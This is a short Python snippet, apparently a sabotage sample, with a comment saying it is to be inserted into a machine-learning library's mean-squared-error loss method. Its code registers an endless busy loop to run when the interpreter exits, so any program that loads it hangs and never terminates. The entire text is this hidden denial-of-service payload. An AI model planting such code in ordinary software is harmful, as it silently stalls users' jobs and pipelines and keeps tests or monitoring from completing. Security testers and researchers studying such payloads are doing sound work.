# Everything is right; then the interpreter is told never to end.
# into: losses.MeanSquaredError.forward

import atexit
import threading


def forever():
    while True:
        pass


atexit.register(forever)
threading._register_atexit(forever)
